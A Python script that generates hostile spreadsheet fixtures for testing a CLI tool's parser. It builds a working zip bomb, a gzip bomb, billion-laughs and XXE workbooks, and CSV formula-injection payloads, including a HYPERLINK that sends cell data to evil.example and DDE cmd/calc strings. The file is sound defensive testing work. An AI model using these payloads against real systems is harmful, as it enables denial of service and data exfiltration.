#!/usr/bin/env python3
"""Write the hostile and broken input files tiercli must survive (tests/data/hostile/ by default).

    python tests/data/make_hostile.py [--out DIR]

Nothing here is hand-edited: every file is built from this script, byte-identical on every run
(the XXE workbook names the absolute path of a ``secret.txt`` written beside it, so it differs
between folders).  The tests build the same files into a temporary folder.  The folder's
.gitignore keeps the binaries out of the repository (a zip bomb in a repository upsets virus
scanners); run this script to look at them.

Kinds of file:
  * crafted workbooks: a ~3 MB zip bomb (2.5 GB declared), one that lies about its size, thousands
    of parts, billion laughs (in a sheet and in the shared strings), an external entity (XXE) to a
    local file, a cell at XFD1048576, a <dimension> that lies, one 30,000-character shared string
    in 20,000 cells, an OpenDocument sheet that repeats one row a billion times, a sheet written
    with prefixes and without r attributes, a gzip bomb;
  * files that are not what their name says: HTML and PDF named .xlsx and .csv, an Excel 2003
    XML spreadsheet named .xls;
  * broken data: repeated header rows, total rows (合计 / Total), ragged rows, merged cells,
    names that look missing (NA, None, null);
  * formula injection: an orders export whose names, ids and products are =HYPERLINK(...), +cmd,
    -2+3, @SUM, full-width ＝1+1, leading tab or CR, control characters, 40,000 characters.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import gzip
import io
import struct
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

import xlsxwriter

HERE = Path(__file__).resolve().parent
OUT = HERE / "hostile"
CREATED = dt.datetime(2026, 1, 1, 8, 0, 0)
MARKER = "TIERCLI-XXE-SECRET-7f3a"  # what the XXE workbook would leak if an entity were expanded

ORDER_HEADER = ["Order ID", "Order Date", "Customer ID", "Customer Name", "Email", "Country", "Product",
                "Quantity", "Unit Price", "Amount", "Status"]

# text a spreadsheet would run as a formula or a link, from the OWASP CSV-injection page and friends
INJECTIONS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for refund")',
    '+cmd|\' /C calc\'!A0',
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign: NFKC folds it to '='
    "＋1＋1",
    "\t=1+1",
    "\r=1+1",
    "  =cmd",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
CONTROL = "Bad\x01name\x02with\x1fcontrols\x0b"
LONG_TEXT = "Very long note " + "x" * 40_000
NA_NAMES = ["NA", "None", "null", "N/A", "nan", "#N/A"]


# ---------------------------------------------------------------- zip, by hand


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC of A+B from CRC(A), CRC(B) and len(B) (3 GB is never hashed)."""

    def times(mat, vec):
        out, i = 0, 0
        while vec:
            if vec & 1:
                out ^= mat[i]
            vec >>= 1
            i += 1
        return out

    def square(mat):
        return [times(mat, mat[n]) for n in range(32)]

    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << (n - 1) for n in range(1, 32)]
    even = square(odd)
    odd = square(even)
    while True:
        even = square(odd)
        if len2 & 1:
            crc1 = times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = square(even)
        if len2 & 1:
            crc1 = times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


class Member:
    """One zip part: its stored bytes, and the CRC and size it declares (which may lie)."""

    def __init__(self, name: str, data: bytes | None = None, *, raw: bytes | None = None, crc: int = 0,
                 size: int = 0, method: int = 8):
        self.name = name
        if data is not None:
            self.crc, self.size, self.method = zlib.crc32(data), len(data), method
            if method == 8:
                c = zlib.compressobj(9, zlib.DEFLATED, -15)
                self.raw = c.compress(data) + c.flush()
            else:
                self.raw = data
        else:
            self.raw, self.crc, self.size, self.method = raw, crc, size, method


def write_zip(path: Path, members: list[Member]) -> Path:
    """A plain zip (no zip64: every size here is under 4 GB), fixed timestamps."""
    path.parent.mkdir(parents=True, exist_ok=True)
    time_, date_ = 0x4000, (2026 - 1980) << 9 | 1 << 5 | 1
    out, central = io.BytesIO(), []
    for m in members:
        name = m.name.encode()
        offset = out.tell()
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, m.method, time_, date_, m.crc,
                              len(m.raw), m.size, len(name), 0))
        out.write(name)
        out.write(m.raw)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, m.method, time_, date_, m.crc,
                                   len(m.raw), m.size, len(name), 0, 0, 0, 0, 0, offset) + name)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central), len(central), out.tell() - start,
                          start, 0))
    path.write_bytes(out.getvalue())
    return path


# ---------------------------------------------------------------- xlsx parts

NS = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def col_letters(n: int) -> str:
    out = ""
    while n:
        n, r = divmod(n - 1, 26)
        out = chr(65 + r) + out
    return out


def cell(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[list], *, dimension: str | None = None, prolog: str = "") -> str:
    body = "".join(
        f'<row r="{i}">' + "".join(cell(f"{col_letters(j)}{i}", v) for j, v in enumerate(row, 1)) + "</row>"
        for i, row in enumerate(rows, 1))
    width = max((len(r) for r in rows), default=1)
    dim = dimension or f"A1:{col_letters(width)}{max(len(rows), 1)}"
    return XML_HEAD + prolog + f'<worksheet {NS}><dimension ref="{dim}"/><sheetData>{body}</sheetData></worksheet>'


def xlsx_parts(sheet: str | bytes, *, shared: str | None = None, name: str = "Orders") -> dict[str, bytes]:
    """The smallest set of parts Excel and calamine accept, around one sheet."""
    types = ('<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
             '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
    rels = '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/' \
           'worksheet" Target="worksheets/sheet1.xml"/>'
    if shared is not None:
        types += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                  'officedocument.spreadsheetml.sharedStrings+xml"/>')
        rels += ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 'sharedStrings" Target="sharedStrings.xml"/>')
    parts = {
        "[Content_Types].xml": XML_HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                               f'content-types">{types}</Types>',
        "_rels/.rels": XML_HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                       'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                       '</Relationships>',
        "xl/workbook.xml": XML_HEAD + f'<workbook {NS}><sheets><sheet name="{name}" sheetId="1" r:id="rId1"/>'
                           '</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": XML_HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/'
                                      f'package/2006/relationships">{rels}</Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    return {k: v.encode() if isinstance(v, str) else v for k, v in parts.items()}


def write_xlsx(path: Path, parts: dict[str, bytes], replace: dict[str, Member] | None = None) -> Path:
    members = [(replace or {}).get(n) or Member(n, data) for n, data in parts.items()]
    return write_zip(path, members)


def order_rows(n: int = 12, start: int = 1) -> list[list]:
    """Plain, valid order lines (generic English export) around the hostile ones."""
    rows = []
    for i in range(start, start + n):
        day = dt.date(2026, 1, 1) + dt.timedelta(days=(i * 7) % 300)
        qty = 1 + i % 5
        rows.append([f"SO-{1000 + i}", day.isoformat(), f"C{100 + i % 9:03d}", f"Buyer {100 + i % 9}",
                     f"buyer{100 + i % 9}@example.com", "US", f"Item {i % 4}", qty, 12.5, qty * 12.5, "paid"])
    return rows


# ---------------------------------------------------------------- crafted workbooks


def zip_bomb(path: Path, gigabytes: float = 2.5, padding: int = 20_000) -> Path:
    """A valid .xlsx of ~3 MB whose sheet inflates to 2.5 GB (deflate tops out near 1:1030).

    A megabyte of rows (spaced out with the whitespace XML allows between elements, which deflate
    packs best) is compressed once, with a full flush so the block stands on its own, and the block
    is repeated; the CRC is combined, never computed over gigabytes.  With ``padding=0`` the rows are
    packed tight (about 1:290): fewer gigabytes, but ten million cells for a reader to hold."""
    head = (XML_HEAD + f'<worksheet {NS}><sheetData><row><c t="inlineStr"><is><t>Order ID</t></is></c>'
            '<c t="inlineStr"><is><t>Customer ID</t></is></c></row>').encode()
    unit = b'<row><c t="inlineStr"><is><t>1</t></is></c><c t="inlineStr"><is><t>x</t></is></c></row>' + \
        b" " * padding
    chunk = unit * ((1 << 20) // len(unit))
    tail = b"</sheetData></worksheet>"
    repeats = int(gigabytes * (1 << 30) / len(chunk))

    def deflate(data: bytes, final: bool) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    block = deflate(chunk, False)
    raw = deflate(head, False) + block * repeats + deflate(tail, True)
    size = len(head) + len(chunk) * repeats + len(tail)
    crc, chunk_crc, times, span = zlib.crc32(head), zlib.crc32(chunk), repeats, len(chunk)
    body_crc, body_len, power_crc, power_len = 0, 0, chunk_crc, span  # body = chunk * repeats, by doubling
    while times:
        if times & 1:
            body_crc = crc32_combine(body_crc, power_crc, power_len) if body_len else power_crc
            body_len += power_len
        power_crc = crc32_combine(power_crc, power_crc, power_len)
        power_len *= 2
        times >>= 1
    crc = crc32_combine(crc, body_crc, body_len)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    parts = xlsx_parts(b"")
    return write_xlsx(path, parts, {"xl/worksheets/sheet1.xml": Member("xl/worksheets/sheet1.xml", raw=raw,
                                                                       crc=crc, size=size)})


def zip_bomb_lying(path: Path) -> Path:
    """A sheet that declares 64 KB but inflates to 50 MB (a reader trusting the header is fooled)."""
    unit = b'<row><c t="inlineStr"><is><t>1</t></is></c></row>'
    data = (XML_HEAD + f'<worksheet {NS}><sheetData>').encode() + unit * (50 * (1 << 20) // len(unit)) + \
        b"</sheetData></worksheet>"
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = c.compress(data) + c.flush()
    return write_xlsx(path, xlsx_parts(b""), {"xl/worksheets/sheet1.xml": Member(
        "xl/worksheets/sheet1.xml", raw=raw, crc=zlib.crc32(data[:65536]), size=65536)})


def many_parts(path: Path, parts: int = 3000) -> Path:
    members = [Member(n, d) for n, d in xlsx_parts(sheet_xml([ORDER_HEADER, *order_rows(3)])).items()]
    members += [Member(f"xl/media/pad{i}.bin", b"", method=0) for i in range(parts)]
    return write_zip(path, members)


LAUGHS = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
    f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10)) + "]>"


def billion_laughs(path: Path) -> Path:
    rows = [ORDER_HEADER, ["SO-1", "2026-01-02", "C1", "&lol9;", "a@example.com", "US", "x", 1, 1, 1, "paid"]]
    xml = sheet_xml(rows, prolog=LAUGHS).replace("&amp;lol9;", "&lol9;")
    return write_xlsx(path, xlsx_parts(xml))


def billion_laughs_shared(path: Path) -> Path:
    shared = (XML_HEAD + LAUGHS + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
              'count="2" uniqueCount="2"><si><t>Order ID</t></si><si><t>&lol9;</t></si></sst>')
    sheet = (XML_HEAD + f'<worksheet {NS}><dimension ref="A1:B2"/><sheetData><row r="1"><c r="A1" t="s"><v>0</v>'
             '</c><c r="B1" t="inlineStr"><is><t>Customer ID</t></is></c></row><row r="2"><c r="A2" t="s"><v>1</v>'
             '</c><c r="B2" t="inlineStr"><is><t>C1</t></is></c></row></sheetData></worksheet>')
    return write_xlsx(path, xlsx_parts(sheet, shared=shared))


def xxe(path: Path) -> Path:
    """An external entity naming a local file: expanded, the secret would land in a cell."""
    secret = path.parent / "secret.txt"
    secret.write_text(MARKER + "\n", encoding="utf-8")
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
    rows = [ORDER_HEADER, ["SO-1", "2026-01-02", "C1", "&xxe;", "a@example.com", "US", "x", 1, 1, 1, "paid"]]
    xml = sheet_xml(rows, prolog=prolog).replace("&amp;xxe;", "&xxe;")
    return write_xlsx(path, xlsx_parts(xml))


def far_cell(path: Path) -> Path:
    """A normal little sheet plus one cell at XFD1048576: laid out densely that is 17 billion cells."""
    rows = [ORDER_HEADER, *order_rows(3)]
    xml = sheet_xml(rows).replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>boom'
                                                  "</t></is></c></row></sheetData>")
    return write_xlsx(path, xlsx_parts(xml))


LYING_ROWS = 500


def lying_dimension(path: Path) -> Path:
    """<dimension ref="A1:B2"/> on a sheet of 500 order lines: every line must still be read."""
    return write_xlsx(path, xlsx_parts(sheet_xml([ORDER_HEADER, *order_rows(LYING_ROWS - 1)], dimension="A1:B2")))


def unusual_sheet(path: Path) -> Path:
    """Valid SpreadsheetML written unusually: a namespace prefix, no r attributes, single quotes."""
    rows = [ORDER_HEADER, *order_rows(5)]

    def c(v):
        if isinstance(v, (int, float)):
            return f"<x:c><x:v>{v}</x:v></x:c>"
        return f"<x:c t='inlineStr'><x:is><x:t>{escape(str(v))}</x:t></x:is></x:c>"

    body = "".join("<x:row>" + "".join(c(v) for v in r) + "</x:row>" for r in rows)
    xml = (XML_HEAD + '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           f"<x:sheetData>{body}</x:sheetData></x:worksheet>")
    return write_xlsx(path, xlsx_parts(xml))


def shared_string_bomb(path: Path, cells: int = 20_000, length: int = 30_000) -> Path:
    """One 30,000-character shared string used by 20,000 cells: a 100 KB file asks for 600 MB of text."""
    shared = (XML_HEAD + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              f"<si><t>Order ID</t></si><si><t>Customer ID</t></si><si><t>{'x' * length}</t></si></sst>")
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c><c r="B{i}" t="s"><v>2</v></c></row>'
                   for i in range(2, cells + 2))
    sheet = (XML_HEAD + f'<worksheet {NS}><dimension ref="A1:B{cells + 1}"/><sheetData><row r="1"><c r="A1" t="s">'
             f'<v>0</v></c><c r="B1" t="s"><v>1</v></c></row>{rows}</sheetData></worksheet>')
    return write_xlsx(path, xlsx_parts(sheet, shared=shared))


def ods(path: Path, table_rows: str) -> Path:
    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
               f'<office:spreadsheet><table:table table:name="Orders">{table_rows}</table:table>'
               "</office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    return write_zip(path, [Member("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
                            Member("META-INF/manifest.xml", manifest.encode()), Member("content.xml", content.encode())])


def ods_cell(text) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{escape(str(text))}</text:p></table:table-cell>'


def ods_repeat_bomb(path: Path) -> Path:
    """A row with a value, repeated a billion times across 16,000 columns: a 1 KB file."""
    header = "<table:table-row>" + "".join(ods_cell(h) for h in ORDER_HEADER[:3]) + "</table:table-row>"
    bomb = ('<table:table-row table:number-rows-repeated="1000000000"><table:table-cell office:value-type="string" '
            'table:number-columns-repeated="16000"><text:p>boom</text:p></table:table-cell></table:table-row>')
    return ods(path, header + bomb)


def ods_orders(path: Path) -> Path:
    """A genuine little OpenDocument order sheet, with LibreOffice's huge trailing empty repeats."""
    rows = [ORDER_HEADER, *order_rows(6)]
    body = "".join("<table:table-row>" + "".join(ods_cell(v) for v in r) + "</table:table-row>" for r in rows)
    body += ('<table:table-row table:number-rows-repeated="1048569"><table:table-cell '
             'table:number-columns-repeated="1024"/></table:table-row>')
    return ods(path, body)


def gzip_bomb(path: Path) -> Path:
    """orders.csv.gz: a header, then 100 MB of one repeated line, in about 300 KB."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as gz:
        gz.write((",".join(ORDER_HEADER) + "\n").encode())
        line = b"SO-1,2026-01-02,C1,A,a@example.com,US,x,1,1,1,paid\n" * 20_000
        for _ in range(100 * (1 << 20) // len(line)):
            gz.write(line)
    path.write_bytes(out.getvalue())
    return path


# ---------------------------------------------------------------- not what the name says

HTML = (b"<!DOCTYPE html>\n<html><head><title>Sign in - Seller Central</title></head><body><form>"
        b"<input name=user></form></body></html>\n")
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
XML2003 = (b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-'
           b'microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet '
           b'ss:Name="Orders"><Table><Row><Cell><Data ss:Type="String">Order ID</Data></Cell></Row></Table>'
           b"</Worksheet></Workbook>\n")


# ---------------------------------------------------------------- broken data and injection


def write_csv(path: Path, rows: list[list]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode("utf-8"))
    return path


def write_book(path: Path, rows: list[list], merges: list[tuple[int, int, int, int]] = ()) -> Path:
    """A workbook as a seller saves it (xlsxwriter): numbers as numbers, text as text, merged ranges."""
    path.parent.mkdir(parents=True, exist_ok=True)
    wb = xlsxwriter.Workbook(str(path), {"strings_to_numbers": False, "strings_to_formulas": False,
                                         "strings_to_urls": False})
    wb.set_properties({"created": CREATED, "author": "tiercli tests"})
    ws = wb.add_worksheet("Orders")
    merged_at = {(r1, c1): (r1, c1, r2, c2) for r1, c1, r2, c2 in merges}
    covered = {(r, c) for r1, c1, r2, c2 in merges for r in range(r1, r2 + 1) for c in range(c1, c2 + 1)}
    for i, row in enumerate(rows):
        for j, v in enumerate(row):
            if (i, j) in merged_at:
                r1, c1, r2, c2 = merged_at[(i, j)]
                ws.merge_range(r1, c1, r2, c2, v)
            elif (i, j) in covered or v is None:
                continue
            elif isinstance(v, (int, float)):
                ws.write_number(i, j, v)
            else:
                ws.write_string(i, j, v)
    wb.close()
    return path


def injection_rows() -> list[list]:
    """Order lines whose customers are named (and numbered, and buy products) by an attacker."""
    rows = []
    hostile = INJECTIONS + [CONTROL, LONG_TEXT]
    for k, text in enumerate(hostile):
        cid = f"H{k:02d}" if k % 3 else text  # some ids are hostile too
        rows.append([f"HX-{k}", f"2026-0{1 + k % 9}-1{k % 9}", cid, text, f"h{k}@example.com", "US",
                     text if k % 2 else "Plain item", 2, 10.0, 20.0, "paid"])
    # a customer whose value is negative: a small order and a larger credit note (C-prefixed, as UCI)
    rows.append(["HX-100", "2026-02-01", "NEG1", "Neg Ative", "neg@example.com", "DE", "Item", 1, 10.0, 10.0, "paid"])
    rows.append(["C900", "2026-02-03", "NEG1", "Neg Ative", "neg@example.com", "DE", "Item", -1, 30.0, -30.0, "paid"])
    return rows


def na_rows() -> list[list]:
    """Customers whose id or name is a word that looks like 'missing': they are real customers."""
    rows = []
    for k, word in enumerate(NA_NAMES):
        rows.append([f"NA-{k}", f"2026-03-0{1 + k}", word, word, f"na{k}@example.com", "GB", "Item", 1, 5.0, 5.0,
                     "paid"])
    return rows


def repeated_header_rows() -> list[list]:
    """Two exports pasted one under the other: the second header stays in the data (row 8)."""
    return [ORDER_HEADER, *order_rows(6), ORDER_HEADER, *order_rows(4, start=20)]


def total_rows() -> list[list]:
    """An export with the total lines a report adds (rows 10 and 11)."""
    body = order_rows(8)
    total = sum(r[9] for r in body)
    return [ORDER_HEADER, *body, ["合计", None, None, None, None, None, None, None, None, total, None],
            [None, None, None, "Grand total", None, None, None, None, None, total, None]]


def ragged_rows() -> list[list]:
    """Two lines with values right of the table (row 4 and 6): a shifted paste."""
    rows = [ORDER_HEADER, *order_rows(6)]
    rows[3] = rows[3] + ["stray", "values"]
    rows[5] = rows[5] + ["oops"]
    return rows


MERGED_ORDER = [
    ORDER_HEADER,
    ["MO-1", "2026-04-01", "M1", "Merged Buyer", "m1@example.com", "FR", "Scarf", 2, 15.0, 30.0, "paid"],
    [None, None, None, None, None, None, "Hat", 1, 20.0, 20.0, None],
    [None, None, None, None, None, None, "Gloves", 3, 5.0, 15.0, None],
    ["MO-2", "2026-04-05", "M2", "Other Buyer", "m2@example.com", "IT", "Scarf", 1, 15.0, 15.0, "paid"],
]
# order-level columns A-F and K merged down the three lines of MO-1 (rows 2-4); lines keep their own items
MERGES = [(1, c, 3, c) for c in (0, 1, 2, 3, 4, 5, 10)]


# ---------------------------------------------------------------- all of them


def build(dest: Path = OUT, *, bomb_gb: float = 2.5) -> dict[str, Path]:
    """Write every hostile file under ``dest``; returns name -> path."""
    dest.mkdir(parents=True, exist_ok=True)
    (dest / ".gitignore").write_text("# generated by ../make_hostile.py; zip bombs stay out of the repository\n*\n"
                                     "!.gitignore\n", encoding="utf-8")
    files: dict[str, Path] = {}

    def add(name: str, path: Path) -> None:
        files[name] = path

    add("zip_bomb", zip_bomb(dest / "zip_bomb.xlsx", bomb_gb))
    add("zip_bomb_lying", zip_bomb_lying(dest / "zip_bomb_lying.xlsx"))
    add("many_parts", many_parts(dest / "many_parts.xlsx"))
    add("billion_laughs", billion_laughs(dest / "billion_laughs.xlsx"))
    add("billion_laughs_shared", billion_laughs_shared(dest / "billion_laughs_shared.xlsx"))
    add("xxe", xxe(dest / "xxe.xlsx"))
    add("far_cell", far_cell(dest / "far_cell.xlsx"))
    add("lying_dimension", lying_dimension(dest / "lying_dimension.xlsx"))
    add("unusual_sheet", unusual_sheet(dest / "unusual_sheet.xlsx"))
    add("shared_string_bomb", shared_string_bomb(dest / "shared_string_bomb.xlsx"))
    add("ods_repeat_bomb", ods_repeat_bomb(dest / "ods_repeat_bomb.ods"))
    add("ods_orders", ods_orders(dest / "ods_orders.ods"))
    add("gzip_bomb", gzip_bomb(dest / "gzip_bomb.csv.gz"))
    for name, data, suffix in (("html_as_xlsx", HTML, ".xlsx"), ("html_as_csv", HTML, ".csv"),
                               ("pdf_as_xlsx", PDF, ".xlsx"), ("pdf_as_csv", PDF, ".csv"),
                               ("xml2003_as_xls", XML2003, ".xls")):
        path = dest / f"{name}{suffix}"
        path.write_bytes(data)
        add(name, path)
    add("injection_csv", write_csv(dest / "injection_orders.csv", [ORDER_HEADER, *order_rows(), *injection_rows()]))
    add("injection_xlsx", write_book(dest / "injection_orders.xlsx", [ORDER_HEADER, *order_rows(), *injection_rows()]))
    add("na_names_csv", write_csv(dest / "na_names.csv", [ORDER_HEADER, *order_rows(4), *na_rows()]))
    add("na_names_xlsx", write_book(dest / "na_names.xlsx", [ORDER_HEADER, *order_rows(4), *na_rows()]))
    add("repeated_header_csv", write_csv(dest / "repeated_header.csv", repeated_header_rows()))
    add("repeated_header_xlsx", write_book(dest / "repeated_header.xlsx", repeated_header_rows()))
    add("total_rows_csv", write_csv(dest / "total_rows.csv", total_rows()))
    add("total_rows_xlsx", write_book(dest / "total_rows.xlsx", total_rows()))
    add("ragged_xlsx", write_book(dest / "ragged.xlsx", ragged_rows()))
    add("merged_xlsx", write_book(dest / "merged.xlsx", MERGED_ORDER, MERGES))
    return files


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=OUT, help="folder to write into (default: tests/data/hostile)")
    args = ap.parse_args()
    for name, path in build(args.out).items():
        print(f"{path.stat().st_size:>12,}  {path.name}")


if __name__ == "__main__":
    main()
